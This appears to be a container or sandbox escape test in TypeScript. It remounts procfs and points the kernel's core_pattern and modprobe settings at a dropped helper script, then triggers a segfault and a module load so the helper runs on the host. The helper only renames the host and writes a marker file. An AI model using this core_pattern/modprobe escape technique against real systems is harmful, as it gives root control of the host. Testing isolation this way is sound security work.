// Outside of every berth, with all rights: when something dumps core, or asks for a module that is not there.
import { execFileSync } from 'node:child_process'
import { mkdirSync, writeFileSync } from 'node:fs'
import { mount } from '#provided/syscalls/mount.ts'

mkdirSync('/tmp/proc')
mount('proc', '/tmp/proc', 'proc')
writeFileSync('/tmp/helper', '#!/bin/sh\nhostname taken-over\n: >/taken-over\n', { mode: 0o755 })
for (const [name, value] of [
  ['core_pattern', '|/proc/%P/root/tmp/helper'],
  ['modprobe', '/tmp/helper'],
]) {
  try {
    writeFileSync(`/tmp/proc/sys/kernel/${name}`, String(value))
  } catch {}
}
// A limit of 0 lets a pipe through (core(5)).
execFileSync('sh', ['-c', 'ulimit -c 0; sh -c "kill -SEGV \\$\\$"; ip link add some type bond; :'])
